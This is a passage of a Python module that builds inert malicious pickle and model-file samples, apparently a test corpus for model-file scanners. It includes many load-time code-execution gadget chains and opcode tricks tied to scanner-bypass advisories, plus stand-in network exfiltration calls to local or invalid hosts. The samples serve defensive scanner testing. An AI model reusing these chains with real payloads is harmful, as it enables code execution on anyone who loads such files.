"""Inert malicious samples, one generator per technique of ``/work/shared/corpus/TECHNIQUES.md``.

Every payload either runs ``true`` or creates the sample's *canary* file (a path under a
directory the caller owns): if a scanner ever executed a sample, the canary would exist. Nothing
here executes a payload: pickles are assembled opcode by opcode (:mod:`._pickle`) or dumped with
``pickle.dumps`` of ``__reduce__`` objects, which never calls the reduced function.

Families (``Sample.family``) are ``<TECHNIQUES.md section>.<family>``:

* 1.classic, 1.gadget, 1.submodule, 1.py2-names, 1.nested-loader, 1.deny-by-default
* 2.protocol, 2.opcode, 2.memo, 2.broken-stream, 2.stacked
* 3.extension, 3.zip, 3.legacy-torch, 3.compression, 3.nested-archive, 3.numpy
* 4.archive, 4.keras, 4.hf-code, 4.chat-template, 4.skops, 4.safetensors
"""

from __future__ import annotations

import base64
import bz2
import functools
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import pickletools
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

from . import Sample
from . import _pickle as P
from ._pickle import G, Raw, Reduce, Seq
from ._zip import Entry, build_zip, symlink_attr

MALICIOUS: list[Sample] = []

PKL = ("MLG-PKL-",)  # any pickle rule: dangerous / unknown / dynamic global, indirect call, malformed
# Flag-bit tricks: the member is refused as encrypted; a zip-anomaly finding is the meaningful detection.
ZIP_ANOMALY = ("MLG-PKL-", "MLG-ZIP-", "MLG-ARC-")

GHSA = "https://github.com/advisories/"
NVD = "https://nvd.nist.gov/vuln/detail/"
PICKLESCAN_ADV = "https://github.com/mmaitre314/picklescan/security/advisories/"
MODELSCAN_ISSUE = "https://github.com/protectai/modelscan/issues/"
NULLIFAI = "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"


def technique(
    id: str,
    family: str,
    title: str,
    filename: str = "model.pkl",
    *,
    ref: str = "",
    advisory: str = "",
    rules: tuple[str, ...] = PKL,
    container: bool = False,
    requires: tuple[str, ...] = (),
) -> Callable[[Callable[[Path, Path], None]], Callable[[Path, Path], None]]:
    def deco(fn: Callable[[Path, Path], None]) -> Callable[[Path, Path], None]:
        MALICIOUS.append(Sample(id=id, family=family, title=title, filename=filename, build=fn, reference=ref,
                                advisory=advisory, rules=rules, container=container, requires=requires))
        return fn

    return deco


def pickle_technique(id: str, family: str, title: str, payload: Callable[[Path], Any], *, protocol: int = 4,
                     filename: str = "model.pkl", **kw: Any) -> None:
    """Register a sample that is one assembled pickle: ``payload(canary)`` is the expression."""

    def build(target: Path, canary: Path) -> None:
        target.write_bytes(P.dumps(payload(canary), protocol))

    technique(id, family, title, filename, **kw)(build)


# -- payload helpers -----------------------------------------------------------------------------

def sh(canary: Path) -> str:
    """A shell command whose only effect is creating the canary."""
    return f"touch {canary}"


def py(canary: Path) -> str:
    """Python source whose only effect is creating the canary."""
    return f"open({str(canary)!r}, 'w').close()"


def os_system(canary: Path, protocol: int = 4) -> bytes:
    return P.dumps(G("os", "system")(sh(canary)), protocol)


def inject(stream: bytes, expr: Any) -> bytes:
    """Run ``expr`` (and discard its value) at the start of a real pickle stream, which then loads
    as before: the loaded object is unchanged, the payload ran first."""
    assert stream[:1] == pickle.PROTO, "inject() needs a stream that starts with PROTO"
    return stream[:2] + P.body(expr, stream[1]) + pickle.POP + stream[2:]


def function_code(src: str) -> Any:
    """The code object of the first function defined in ``src`` (compiled, never run)."""
    return next(c for c in compile(src, "<corpus>", "exec").co_consts if hasattr(c, "co_code"))


def canary_function(canary: Path) -> Any:
    return function_code(f"def f():\n    {py(canary)}\n")


# -- real files to start from ----------------------------------------------------------------------

@functools.cache
def torch_zip_members() -> tuple[tuple[str, bytes], ...]:
    """(name, bytes) of every member of a real ``torch.save`` zip of a tiny state dict."""
    import torch

    buf = io.BytesIO()
    torch.save({"weight": torch.arange(6, dtype=torch.float32).reshape(2, 3), "bias": torch.zeros(2)}, buf)
    with zipfile.ZipFile(buf) as z:
        return tuple((i.filename, z.read(i)) for i in z.infolist())


def torch_data_pkl() -> bytes:
    return dict(torch_zip_members())["archive/data.pkl"]


def torch_entries(data_pkl: bytes | None = None, **data_kw: Any) -> list[Entry]:
    """Zip entries of a real torch checkpoint; ``data_pkl`` replaces ``archive/data.pkl``."""
    out = []
    for name, data in torch_zip_members():
        if name == "archive/data.pkl" and data_pkl is not None:
            out.append(Entry(name, data_pkl, **data_kw))
        else:
            out.append(Entry(name, data))
    return out


def malicious_torch_zip(canary: Path) -> bytes:
    return build_zip(torch_entries(inject(torch_data_pkl(), G("os", "system")(sh(canary)))))


@functools.cache
def legacy_torch_streams() -> tuple[bytes, ...]:
    """A real legacy (pre-1.6) torch file split into magic, protocol, sys_info, main, storage keys,
    and the raw storages."""
    import torch

    buf = io.BytesIO()
    torch.save({"weight": torch.arange(4, dtype=torch.float32)}, buf, _use_new_zipfile_serialization=False)
    data = buf.getvalue()
    f = io.BytesIO(data)
    parts, start = [], 0
    for _ in range(5):
        for op, _arg, _pos in pickletools.genops(f):
            if op.name == "STOP":
                break
        parts.append(data[start:f.tell()])
        start = f.tell()
    parts.append(data[start:])
    return tuple(parts)


def legacy_with_payload(index: int, expr: Any) -> bytes:
    parts = list(legacy_torch_streams())
    parts[index] = inject(parts[index], expr)
    return b"".join(parts)


def tar_bytes(members: list[tuple[str, bytes]], *, mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tar:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 1_700_000_000
            tar.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def zip_bytes(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


# ==================================================================================================
# 1. Code-reaching globals in a pickle
# ==================================================================================================

# -- classic --------------------------------------------------------------------------------------
pickle_technique("classic-os-system", "1.classic", "os.system", lambda c: G("os", "system")(sh(c)))
pickle_technique("classic-posix-system", "1.classic", "posix.system (how CPython on Linux pickles os.system)",
                 lambda c: G("posix", "system")(sh(c)))
pickle_technique("classic-nt-system", "1.classic", "nt.system (os.system pickled on Windows)",
                 lambda c: G("nt", "system")(sh(c)))
pickle_technique("classic-subprocess-popen", "1.classic", "subprocess.Popen",
                 lambda c: G("subprocess", "Popen")(["touch", str(c)]))
pickle_technique("classic-subprocess-check-output", "1.classic", "subprocess.check_output",
                 lambda c: G("subprocess", "check_output")(["touch", str(c)]))
pickle_technique("classic-builtins-exec", "1.classic", "builtins.exec", lambda c: G("builtins", "exec")(py(c)))
pickle_technique("classic-builtins-eval", "1.classic", "builtins.eval",
                 lambda c: G("builtins", "eval")(f"exec({py(c)!r})"))
pickle_technique("classic-builtins-import", "1.classic", "builtins.__import__('os') then getattr(.., 'system')",
                 lambda c: G("builtins", "getattr")(G("builtins", "__import__")("os"), "system")(sh(c)))
pickle_technique("classic-builtin-eval-proto2", "1.classic", "__builtin__.eval at protocol 2 (Python 2 name)",
                 lambda c: G("__builtin__", "eval")(f"exec({py(c)!r})"), protocol=2)
pickle_technique("classic-builtins-compile-exec", "1.classic",
                 "builtins.compile + exec (Sour Pickles, BlackHat 2011)",
                 lambda c: G("builtins", "exec")(G("builtins", "compile")(py(c), "<p>", "exec")),
                 ref="https://media.blackhat.com/bh-us-11/Slaviero/BH_US_11_Slaviero_Sour_Pickles_Slides.pdf")

# -- gadgets outside common denylists ------------------------------------------------------------
pickle_technique("gadget-pip-main", "1.gadget", "pip.main(['install', ...])",
                 lambda c: G("pip", "main")(["install", "--no-index", "--target", str(c), "corpus-nonexistent"]),
                 advisory="CVE-2025-1716", ref=NVD + "CVE-2025-1716")
pickle_technique("gadget-runpy-run-code", "1.gadget", "runpy._run_code(src, {})",
                 lambda c: G("runpy", "_run_code")(py(c), {}))
pickle_technique("gadget-code-interactiveinterpreter-runcode", "1.gadget",
                 "code.InteractiveInterpreter.runcode (dotted STACK_GLOBAL name)",
                 lambda c: G("code", "InteractiveInterpreter.runcode", "STACK_GLOBAL")(
                     G("code", "InteractiveInterpreter")(), py(c)),
                 advisory="GHSA-cj3c-v495-4xqh", ref=GHSA + "GHSA-cj3c-v495-4xqh")
pickle_technique("gadget-numpy-runstring", "1.gadget", "numpy.testing._private.utils.runstring",
                 lambda c: G("numpy.testing._private.utils", "runstring")(py(c), {}),
                 ref="https://github.com/mmaitre314/picklescan/pull/40")
pickle_technique("gadget-pkgutil-resolve-name", "1.gadget", "pkgutil.resolve_name('os:system')(cmd)",
                 lambda c: G("pkgutil", "resolve_name")("os:system")(sh(c)),
                 advisory="GHSA-vvpj-8cmc-gx39", ref=GHSA + "GHSA-vvpj-8cmc-gx39")
pickle_technique("gadget-ctypes-methodcaller", "1.gadget", "operator.methodcaller('system', cmd)(ctypes.CDLL(None))",
                 lambda c: G("operator", "methodcaller")("system", sh(c).encode())(G("ctypes", "CDLL")(None)),
                 advisory="GHSA-4675-36f9-wf6r", ref=GHSA + "GHSA-4675-36f9-wf6r")
pickle_technique("gadget-operator-attrgetter-chain", "1.gadget",
                 "operator.attrgetter('system')(builtins.__import__('os'))(cmd)",
                 lambda c: G("operator", "attrgetter")("system")(G("builtins", "__import__")("os"))(sh(c)),
                 advisory="GHSA-955r-x9j8-7rhh", ref=GHSA + "GHSA-955r-x9j8-7rhh")
pickle_technique("gadget-operator-attrgetter-stack-global", "1.gadget",
                 "operator.attrgetter through STACK_GLOBAL + memo (pickleassem chain)",
                 lambda c: G("operator", "attrgetter", "STACK_GLOBAL")("system")(
                     G("builtins", "__import__", "STACK_GLOBAL")("os"))(sh(c)),
                 ref="https://github.com/mmaitre314/picklescan/blob/main/tests/init_data_files.py")
pickle_technique("gadget-_operator-methodcaller", "1.gadget",
                 "_operator.methodcaller('system', cmd)(importlib.import_module('os'))",
                 lambda c: G("_operator", "methodcaller")("system", sh(c))(G("importlib", "import_module")("os")),
                 advisory="GHSA-84r2-jw7c-4r5q", ref=GHSA + "GHSA-84r2-jw7c-4r5q")
pickle_technique("gadget-_operator-attrgetter-dunder", "1.gadget",
                 "_operator.attrgetter('__globals__') on an allowlisted function, then dict access",
                 lambda c: G("_operator", "itemgetter")("__builtins__")(
                     G("_operator", "attrgetter")("__globals__")(G("torch._utils", "_rebuild_tensor_v2"))),
                 advisory="GHSA-84r2-jw7c-4r5q", ref=GHSA + "GHSA-84r2-jw7c-4r5q")
pickle_technique("gadget-getattr-import-module", "1.gadget",
                 "builtins.getattr(importlib.import_module('os'), 'system')(cmd)",
                 lambda c: G("builtins", "getattr")(G("importlib", "import_module")("os"), "system")(sh(c)),
                 advisory="modelscan#331", ref=MODELSCAN_ISSUE + "331")
pickle_technique("gadget-timeit", "1.gadget", "timeit.timeit(stmt)",
                 lambda c: G("timeit", "timeit")(py(c), "pass", G("time", "perf_counter"), 1))
pickle_technique("gadget-cprofile-run", "1.gadget", "cProfile.run(src)", lambda c: G("cProfile", "run")(py(c)),
                 advisory="GHSA-49gj-c84q-6qm9", ref=GHSA + "GHSA-49gj-c84q-6qm9")
pickle_technique("gadget-profile-run", "1.gadget", "profile.run(src)", lambda c: G("profile", "run")(py(c)))
pickle_technique("gadget-profile-profile-run", "1.gadget", "profile.Profile.run(self, src) (dotted name)",
                 lambda c: G("profile", "Profile.run", "STACK_GLOBAL")(G("profile", "Profile")(), py(c)),
                 advisory="GHSA-x696-vm39-cp64", ref=GHSA + "GHSA-x696-vm39-cp64")
pickle_technique("gadget-trace-run", "1.gadget", "trace.Trace.run(self, src)",
                 lambda c: G("trace", "Trace.run", "STACK_GLOBAL")(G("trace", "Trace")(), py(c)),
                 advisory="GHSA-5qwp-399c-mjwf", ref=GHSA + "GHSA-5qwp-399c-mjwf")
pickle_technique("gadget-doctest-debug-script", "1.gadget", "doctest.debug_script(src, pm=True)",
                 lambda c: G("doctest", "debug_script")(py(c), True),
                 advisory="GHSA-fqq6-7vqf-w3fg", ref=GHSA + "GHSA-fqq6-7vqf-w3fg")
pickle_technique("gadget-idlelib-calltip-get-entity", "1.gadget", "idlelib.calltip.get_entity(expr) evals",
                 lambda c: G("idlelib.calltip", "get_entity")(f"exec({py(c)!r})"),
                 advisory="GHSA-9xph-j2h6-g47v", ref=GHSA + "GHSA-9xph-j2h6-g47v")
pickle_technique("gadget-idlelib-run-executive-runcode", "1.gadget", "idlelib.run.Executive.runcode(self, src)",
                 lambda c: G("idlelib.run", "Executive.runcode", "STACK_GLOBAL")({}, py(c)),
                 advisory="GHSA-m869-42cg-3xwr", ref=GHSA + "GHSA-m869-42cg-3xwr")
pickle_technique("gadget-lib2to3-grammar-loads", "1.gadget", "lib2to3 Grammar.loads(nested malicious pickle)",
                 lambda c: G("lib2to3.pgen2.grammar", "Grammar.loads", "STACK_GLOBAL")(
                     G("lib2to3.pgen2.grammar", "Grammar")(), os_system(c, 2)),
                 advisory="GHSA-f54q-57x4-jg88", ref=GHSA + "GHSA-f54q-57x4-jg88")
pickle_technique("gadget-pydoc-pipepager", "1.gadget", "pydoc.pipepager(text, cmd)",
                 lambda c: G("pydoc", "pipepager")("", sh(c)))
pickle_technique("gadget-distutils-spawn", "1.gadget", "distutils.spawn.spawn(argv)",
                 lambda c: G("distutils.spawn", "spawn")(["touch", str(c)]))
pickle_technique("gadget-pty-spawn", "1.gadget", "pty.spawn(argv)", lambda c: G("pty", "spawn")(["touch", str(c)]),
                 advisory="GHSA-vqmv-47xg-9wpr", ref=GHSA + "GHSA-vqmv-47xg-9wpr")
pickle_technique("gadget-webbrowser-open", "1.gadget", "webbrowser.open(url)",
                 lambda c: G("webbrowser", "open")(f"file://{c}"))
pickle_technique("gadget-uuid-get-command-stdout", "1.gadget", "uuid._get_command_stdout(cmd)",
                 lambda c: G("uuid", "_get_command_stdout")("touch", str(c)),
                 advisory="GHSA-g38g-8gr9-h9xp", ref=GHSA + "GHSA-g38g-8gr9-h9xp")
pickle_technique("gadget-imaplib-imap4-stream", "1.gadget", "imaplib.IMAP4_stream(cmd) spawns a command",
                 lambda c: G("imaplib", "IMAP4_stream")(sh(c)))
pickle_technique("gadget-logging-filehandler", "1.gadget", "logging.FileHandler(path) creates a file",
                 lambda c: G("logging", "FileHandler")(str(c)))
pickle_technique("gadget-io-fileio", "1.gadget", "_io.FileIO(path, 'w') creates a file",
                 lambda c: G("_io", "FileIO")(str(c), "w"))
pickle_technique("gadget-urllib-urlopen", "1.gadget", "urllib.request.urlopen(url) (network / SSRF)",
                 lambda c: G("urllib.request", "urlopen")("http://127.0.0.1:9/corpus"))
pickle_technique("gadget-sqlite3-connect", "1.gadget", "sqlite3.connect(path) creates a database file",
                 lambda c: G("sqlite3", "connect")(str(c)))
pickle_technique("gadget-mailcap-findmatch", "1.gadget", "mailcap.findmatch runs the entry's test command",
                 lambda c: G("mailcap", "findmatch")(
                     {"text/plain": [{"view": "true", "test": sh(c)}]}, "text/plain"))
pickle_technique("gadget-marshal-functiontype", "1.gadget", "types.FunctionType(marshal.loads(code), {})()",
                 lambda c: G("types", "FunctionType")(
                     G("marshal", "loads")(marshal.dumps(canary_function(c))), {})())


def _cloudpickle_by_value(c: Path) -> Any:
    """What cloudpickle emits for a by-value function (``_make_function`` over a ``CodeType``),
    with a final REDUCE that calls it at load time."""
    co = canary_function(c)
    code_args = (co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals, co.co_stacksize,
                 co.co_flags, co.co_code, co.co_consts, co.co_names, co.co_varnames, "<dynamic-code>", co.co_name,
                 co.co_qualname, co.co_firstlineno, co.co_linetable, co.co_exceptiontable, (), ())
    code_type = G("cloudpickle.cloudpickle", "_builtin_type", "STACK_GLOBAL")("CodeType")
    fn = G("cloudpickle.cloudpickle", "_make_function", "STACK_GLOBAL")(
        code_type(*code_args), {"__package__": None, "__name__": "__main__"}, "f", None, None)
    return fn()


pickle_technique("gadget-cloudpickle-by-value", "1.gadget",
                 "cloudpickle by-value function: _make_function(_builtin_type('CodeType')(...))() (hand-assembled)",
                 _cloudpickle_by_value, ref="https://github.com/cloudpipe/cloudpickle")


@technique("gadget-cloudpickle-real", "1.gadget", "cloudpickle.dumps of a by-value function, called at load",
           requires=("cloudpickle",), ref="https://github.com/cloudpipe/cloudpickle")
def _cloudpickle_real(target: Path, canary: Path) -> None:
    import types

    import cloudpickle

    fn = types.FunctionType(canary_function(canary), {})  # constructing a function runs nothing
    target.write_bytes(cloudpickle.dumps(Reduce(fn, ()), protocol=4))


@technique("gadget-numpy-size-builtins", "1.gadget",
           "BUILD sets numpy.size.shape = numpy.__builtins__, then numpy.size(numpy.size, 'eval')(src)",
           advisory="modelscan#330", ref=MODELSCAN_ISSUE + "330")
def _numpy_size_builtins(target: Path, canary: Path) -> None:
    # The modelscan #330 proof of concept, with an inert payload.
    src = f"exec({py(canary)!r})".encode()
    target.write_bytes(
        b"\x80\x04\x8c\x05numpy\x8c\x04size\x93\x94\x94\x8c\x05numpy\x8c\x0c__builtins__\x93\x94\x94"
        b"h\x01}}\x8c\x05shapeh\x03s\x86bh\x01h\x01\x8c\x04eval\x86R"
        + b"X" + struct.pack("<I", len(src)) + src + b"\x85R.")


pickle_technique("gadget-numpy-builtins-dict-get", "1.gadget",
                 "builtins.dict.get(numpy.__builtins__, 'exec')(src)",
                 lambda c: G("builtins", "dict.get")(G("numpy", "__builtins__"), "exec")(py(c)),
                 advisory="modelscan#89", ref=MODELSCAN_ISSUE + "89")
pickle_technique("gadget-numpy-multiarray-builtins", "1.gadget",
                 "__builtins__ reached through the ndarray module (numpy.core.multiarray.__builtins__)",
                 lambda c: G("builtins", "dict.get", "STACK_GLOBAL")(
                     G("numpy.core.multiarray", "__builtins__", "STACK_GLOBAL"), "exec")(py(c)),
                 advisory="modelscan#89", ref=MODELSCAN_ISSUE + "89")

# -- submodules of dangerous modules ---------------------------------------------------------------
pickle_technique("submodule-asyncio-unix-subprocess-start", "1.submodule",
                 "asyncio.unix_events._UnixSubprocessTransport._start(self, cmd, shell=True, ...)",
                 lambda c: G("asyncio.unix_events", "_UnixSubprocessTransport._start", "STACK_GLOBAL")(
                     {}, sh(c), True, None, None, None, 0),
                 advisory="CVE-2025-10157", ref=NVD + "CVE-2025-10157")
pickle_technique("submodule-asyncio-subprocess-popen", "1.submodule",
                 "asyncio.subprocess + dotted name 'subprocess.Popen' resolves to subprocess.Popen",
                 lambda c: G("asyncio.subprocess", "subprocess.Popen", "STACK_GLOBAL")(["touch", str(c)]),
                 advisory="CVE-2025-10157", ref=NVD + "CVE-2025-10157")
pickle_technique("submodule-asyncio-create-subprocess-shell", "1.submodule",
                 "asyncio.subprocess.create_subprocess_shell (coroutine reference)",
                 lambda c: G("asyncio.subprocess", "create_subprocess_shell")(sh(c)))

# -- Python 2 names remapped by fix_imports ----------------------------------------------------------
pickle_technique("py2-commands-getoutput", "1.py2-names", "commands.getoutput at protocol 0 (-> subprocess)",
                 lambda c: Raw(b"ccommands\ngetoutput\n(V" + sh(c).encode() + b"\ntR"), protocol=0)
pickle_technique("py2-commands-getoutput-proto2", "1.py2-names", "commands.getoutput at protocol 2",
                 lambda c: G("commands", "getoutput")(sh(c)), protocol=2)
pickle_technique("py2-cpickle-loads", "1.py2-names", "cPickle.loads(nested malicious pickle) at protocol 2",
                 lambda c: G("cPickle", "loads")(os_system(c, 2)), protocol=2)

# -- nested loaders ------------------------------------------------------------------------------------
pickle_technique("nested-torch-load", "1.nested-loader", "torch.load(other file, weights_only=False)",
                 lambda c: G("torch", "load")("other.bin", None, None, False))
pickle_technique("nested-torch-serialization-load", "1.nested-loader", "torch.serialization.load(path)",
                 lambda c: G("torch.serialization", "load")("other.bin"))
pickle_technique("nested-torch-hub-load", "1.nested-loader", "torch.hub.load(repo, model) runs hubconf.py",
                 lambda c: G("torch.hub", "load")("127.0.0.1/corpus", "model"))
pickle_technique("nested-torch-hub-state-dict-url", "1.nested-loader", "torch.hub.load_state_dict_from_url",
                 lambda c: G("torch.hub", "load_state_dict_from_url")("http://127.0.0.1:9/x.pt"))
pickle_technique("nested-numpy-load", "1.nested-loader", "numpy.load(path, None, allow_pickle=True)",
                 lambda c: G("numpy", "load")("weights.npy", None, True))
pickle_technique("nested-numpy-npyio-load", "1.nested-loader", "numpy.lib.npyio.load(path, allow_pickle=True)",
                 lambda c: G("numpy.lib.npyio", "load")("weights.npy", None, True))
pickle_technique("nested-joblib-load", "1.nested-loader", "joblib.load(path)",
                 lambda c: G("joblib", "load")("other.joblib"))
pickle_technique("nested-pickle-loads", "1.nested-loader", "pickle.loads(embedded malicious pickle bytes)",
                 lambda c: G("pickle", "loads")(os_system(c)))
pickle_technique("nested-_pickle-loads", "1.nested-loader", "_pickle.loads(embedded bytes)",
                 lambda c: G("_pickle", "loads")(os_system(c)))
pickle_technique("nested-pandas-read-pickle", "1.nested-loader", "pandas.read_pickle(path)",
                 lambda c: G("pandas", "read_pickle")("frame.pkl"))
pickle_technique("nested-torch-load-from-bytes", "1.nested-loader",
                 "torch.storage._load_from_bytes(nested legacy torch file with a payload in its main pickle)",
                 lambda c: G("torch.storage", "_load_from_bytes")(
                     legacy_with_payload(3, G("os", "system")(sh(c)))))
pickle_technique("nested-partial-torch-load", "1.nested-loader",
                 "functools.partial(torch.load, path, pickle_file=..., weights_only=False)()",
                 lambda c: Raw(P.body(G("functools", "partial"))
                               + P.body((G("torch", "load"),)) + pickle.REDUCE
                               + P.body((G("torch", "load"), ("other.bin",),
                                         {"pickle_file": "config.json", "weights_only": False}, None))
                               + pickle.BUILD)(),
                 ref="https://github.com/mmaitre314/picklescan/blob/main/tests/init_data_files.py")


@technique("nested-partial-joblib-load-real", "1.nested-loader",
           "functools.partial(joblib.load, path)() as pickle.dumps writes it")
def _partial_joblib(target: Path, canary: Path) -> None:
    import joblib

    target.write_bytes(pickle.dumps(Reduce(functools.partial(joblib.load, "other.joblib"), ()), protocol=4))


@technique("nested-partial-numpy-load-real", "1.nested-loader",
           "functools.partial(numpy.load, path, allow_pickle=True)() as pickle.dumps writes it")
def _partial_numpy(target: Path, canary: Path) -> None:
    import numpy as np

    target.write_bytes(pickle.dumps(Reduce(functools.partial(np.load, "w.npy", allow_pickle=True), ()), protocol=2))


# -- deny by default: callables nobody listed ------------------------------------------------------------
pickle_technique("deny-bdb-run", "1.deny-by-default", "bdb.Bdb.run(self, src)",
                 lambda c: G("bdb", "Bdb.run", "STACK_GLOBAL")(G("bdb", "Bdb")(), py(c)))
pickle_technique("deny-venv-create", "1.deny-by-default", "venv.create(dir, ..., prompt) runs ensurepip",
                 lambda c: G("venv", "create")(str(c), False, False, True, False))
pickle_technique("deny-ensurepip-run-pip", "1.deny-by-default", "ensurepip._run_pip(args)",
                 lambda c: G("ensurepip", "_run_pip")(["--version"]),
                 advisory="GHSA-xp4f-hrf8-rxw7", ref=GHSA + "GHSA-xp4f-hrf8-rxw7")
pickle_technique("deny-torch-collect-env-run", "1.deny-by-default", "torch.utils.collect_env.run(cmd)",
                 lambda c: G("torch.utils.collect_env", "run")(sh(c)),
                 advisory="GHSA-f745-w6jp-hpxx", ref=GHSA + "GHSA-f745-w6jp-hpxx")
pickle_technique("deny-torch-inductor-compile-file", "1.deny-by-default",
                 "torch._inductor.codecache.compile_file(.., cmd)",
                 lambda c: G("torch._inductor.codecache", "compile_file")("", "", ["sh", "-c", sh(c)]))
pickle_technique("deny-torch-jit-execwrapper", "1.deny-by-default",
                 "torch.jit.unsupported_tensor_ops.execWrapper(src, {}, {})",
                 lambda c: G("torch.jit.unsupported_tensor_ops", "execWrapper")(py(c), {}, {}),
                 advisory="GHSA-vr7h-p6mm-wpmh", ref=GHSA + "GHSA-vr7h-p6mm-wpmh")
pickle_technique("deny-torch-fx-shapeenv", "1.deny-by-default",
                 "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression evals",
                 lambda c: G("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression",
                             "STACK_GLOBAL")({}, f"exec({py(c)!r})", []),
                 advisory="GHSA-f4x7-rfwp-v3xw", ref=GHSA + "GHSA-f4x7-rfwp-v3xw")
pickle_technique("deny-torch-dotted-serialization-load", "1.deny-by-default",
                 "dotted name 'serialization.load' on the torch module (an allowlisted package)",
                 lambda c: G("torch", "serialization.load", "STACK_GLOBAL")("other.bin"))
pickle_technique("deny-ssl-dns-exfil", "1.deny-by-default", "ssl.get_server_certificate((host, 443)) (DNS exfil)",
                 lambda c: G("ssl", "get_server_certificate")(("corpus.invalid", 443)))
pickle_technique("deny-socket-create-connection", "1.deny-by-default", "socket.create_connection",
                 lambda c: G("socket", "create_connection")(("127.0.0.1", 9)))
pickle_technique("deny-builtins-open", "1.deny-by-default", "builtins.open(path, 'w')",
                 lambda c: G("builtins", "open")(str(c), "w"))
pickle_technique("deny-unknown-module", "1.deny-by-default", "a global from a module nobody has heard of",
                 lambda c: G("corpus_attacker_pkg.payload", "Run")(sh(c)))
pickle_technique("deny-multiprocessing-spawnv-passfds", "1.deny-by-default",
                 "multiprocessing.util.spawnv_passfds(path, argv, fds)",
                 lambda c: G("multiprocessing.util", "spawnv_passfds")(b"/bin/sh", ("/bin/sh", "-c", sh(c)), ()),
                 advisory="modelscan#338", ref=MODELSCAN_ISSUE + "338")
pickle_technique("deny-mlflow-run-entry-point", "1.deny-by-default",
                 "mlflow.projects.backend.local._run_entry_point(cmd, ...)",
                 lambda c: G("mlflow.projects.backend.local", "_run_entry_point")(sh(c), ".", "", ""),
                 advisory="modelscan#338", ref=MODELSCAN_ISSUE + "338")
pickle_technique("deny-pandas-read-csv-url", "1.deny-by-default",
                 "pandas.io.parsers.readers.read_csv(url) (exfiltration through an allowlisted package)",
                 lambda c: G("pandas.io.parsers.readers", "read_csv")("http://127.0.0.1:9/?leak=1"),
                 advisory="modelscan#338", ref=MODELSCAN_ISSUE + "338")
pickle_technique("deny-shutil-copy", "1.deny-by-default", "shutil.copyfile(src, canary)",
                 lambda c: G("shutil", "copyfile")("/dev/null", str(c)))


# ==================================================================================================
# 2. Opcode-level tricks
# ==================================================================================================

for _proto in range(6):
    @technique(f"protocol-{_proto}", "2.protocol", f"builtins.exec at protocol {_proto} (pickle.dumps)")
    def _proto_sample(target: Path, canary: Path, _p: int = _proto) -> None:
        target.write_bytes(pickle.dumps(Reduce(exec, (py(canary),)), protocol=_p))

pickle_technique("opcode-global", "2.opcode", "GLOBAL opcode", lambda c: G("os", "system", "GLOBAL")(sh(c)),
                 protocol=3)
pickle_technique("opcode-stack-global", "2.opcode", "STACK_GLOBAL opcode",
                 lambda c: G("os", "system", "STACK_GLOBAL")(sh(c)))
pickle_technique("opcode-inst", "2.opcode", "INST opcode (protocol 0)",
                 lambda c: Raw(b"(V" + sh(c).encode() + b"\nios\nsystem\n"), protocol=0)
pickle_technique("opcode-obj", "2.opcode", "OBJ opcode (protocol 1)",
                 lambda c: Raw(b"(cos\nsystem\nX" + struct.pack("<I", len(sh(c))) + sh(c).encode() + b"o"),
                 protocol=1)
pickle_technique("opcode-newobj", "2.opcode", "NEWOBJ on subprocess.Popen",
                 lambda c: P.NewObj(G("subprocess", "Popen"), (["touch", str(c)],)), protocol=2)
pickle_technique("opcode-stack-global-string", "2.opcode", "STACK_GLOBAL fed by STRING operands",
                 lambda c: G("os", "system", "STACK_GLOBAL/STRING")(sh(c)))
pickle_technique("opcode-stack-global-short-binstring", "2.opcode", "STACK_GLOBAL fed by SHORT_BINSTRING",
                 lambda c: G("os", "system", "STACK_GLOBAL/SHORT_BINSTRING")(sh(c)))
pickle_technique("opcode-stack-global-memo", "2.opcode", "STACK_GLOBAL fed by memo GETs (decoys in between)",
                 lambda c: Raw(b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V"
                               + sh(c).encode() + b"\ntR"),
                 advisory="picklescan#22", ref="https://github.com/mmaitre314/picklescan/issues/22")
pickle_technique("opcode-codecs-computed-name", "2.opcode",
                 "module and name computed at load time by _codecs.decode (rot13) feeding STACK_GLOBAL",
                 lambda c: Raw(P.body(G("_codecs", "decode")("bf", "rot13"))
                               + P.body(G("_codecs", "decode")("flfgrz", "rot13")) + pickle.STACK_GLOBAL)(sh(c)))
pickle_technique("opcode-codecs-encode-computed-name", "2.opcode",
                 "names computed by the allowlisted _codecs.encode (rot13) feeding STACK_GLOBAL",
                 lambda c: Raw(P.body(G("_codecs", "encode")("bf", "rot13"))
                               + P.body(G("_codecs", "encode")("flfgrz", "rot13")) + pickle.STACK_GLOBAL)(sh(c)))
pickle_technique("opcode-build-on-global", "2.opcode",
                 "BUILD sets attributes on an imported function, then a dotted name reads them (modelscan #85)",
                 lambda c: Raw(b"cnumpy\nprod\nN(Va\nVos\nVb\nVsystem\nd\x86b0"
                               b"cnumpy\nprod.a\np0\n0cnumpy\nprod.b\np1\n0g0\ng1\n\x93")(sh(c)),
                 ref=MODELSCAN_ISSUE + "85")
pickle_technique("opcode-ext-registry", "2.opcode",
                 "EXT1 extension code pushes a global the file never names",
                 lambda c: Raw(pickle.EXT1 + b"\x01")(sh(c)), protocol=2)


# -- memo tricks that crash scanners after the payload ran --------------------------------------------------
@technique("memo-missing-key-after-payload", "2.memo", "payload, then BINGET of a memo key never written",
           advisory="GHSA-9gvj-pp9x-gcfr", ref=GHSA + "GHSA-9gvj-pp9x-gcfr")
def _memo_missing(target: Path, canary: Path) -> None:
    target.write_bytes(pickle.PROTO + b"\x04" + P.body(G("os", "system")(sh(canary))) + pickle.POP
                       + b"\x8c\x02os" + pickle.MEMOIZE + pickle.BINGET + b"\x03" + pickle.BINGET + b"\x00"
